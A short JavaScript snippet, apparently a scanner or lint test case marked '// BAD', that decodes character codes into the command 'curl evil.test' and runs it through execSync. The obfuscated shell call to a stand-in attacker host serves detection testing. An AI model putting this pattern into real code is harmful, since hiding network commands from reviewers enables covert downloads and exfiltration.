import { execSync } from 'node:child_process';
const line = String.fromCharCode(99, 117, 114, 108, 32, 101, 118, 105, 108, 46, 116, 101, 115, 116);
execSync(line); // BAD
